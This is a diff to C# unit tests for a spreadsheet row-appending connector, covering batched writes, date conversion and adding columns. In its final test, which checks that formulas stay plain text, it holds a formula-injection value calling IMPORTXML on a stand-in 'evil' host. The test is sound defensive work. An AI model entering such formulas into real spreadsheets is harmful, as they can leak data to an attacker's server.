@@ -40,6 +40,40 @@ public sealed class SheetsLifeTests : IDisposable
     }
 
     [Fact]
+    public async Task Rows_that_wait_together_are_one_write_and_each_is_told_its_own_number()
+    {
+        var outcomes = await _hub.RunManyAsync(
+            "append-row",
+            """{"spreadsheet":"s1","sheet":"Leads","values":{"Email":"a@x.example"},"key_column":"Hub"}""",
+            """{"spreadsheet":"s1","sheet":"Leads","values":{"Nothing":1},"key_column":"Hub"}""",
+            """{"spreadsheet":"s1","sheet":"Leads","values":{"Email":"b@x.example"},"key_column":"Hub"}""");
+
+        Assert.Equal(1, _google.Book.CallsOf("values.append"));
+        Assert.Equal([2, 3], outcomes.OfType<StepOutcome.Done>().Select(done => done.Output.GetProperty("row").GetInt32()));
+        Assert.Equal(FailureKind.Rejected, Connectors.Outcomes.Kind(outcomes[1]));
+        Assert.Equal(("b@x.example", StandInHub.Key("item 2")), (Leads.Text(2, 0), Leads.Text(2, 3)));
+    }
+
+    [Fact]
+    public async Task A_moment_becomes_a_date_that_is_read_back_as_one()
+    {
+        await _hub.DoneAsync("append-row", """{"spreadsheet":"s1","sheet":"Leads","values":{"Email":"a@x.example","Score":"2026-09-01T10:30:00+02:00"}}""");
+
+        Assert.Equal("2026-09-01 10:30:00", Leads.Text(1, 2));
+        Assert.IsType<double>(Leads[1, 2]!.Value);
+    }
+
+    [Fact]
+    public async Task A_column_that_is_missing_is_added_also_where_the_sheet_is_full()
+    {
+        Leads.Width = 4;
+
+        await _hub.DoneAsync("append-row", """{"spreadsheet":"s1","sheet":"Leads","values":{"Email":"a@x.example","City":"Porto"},"new_columns":"add"}""");
+
+        Assert.Equal(("City", "Porto", 5), (Leads.Text(0, 4), Leads.Text(1, 4), Leads.Width));
+    }
+
+    [Fact]
     public async Task A_formula_stays_the_text_it_is()
     {
         await _hub.DoneAsync("append-row", """{"spreadsheet":"s1","sheet":"Leads","values":{"Email":"=IMPORTXML(\"http://evil\",\"//a\")","Name":"007"}}""");
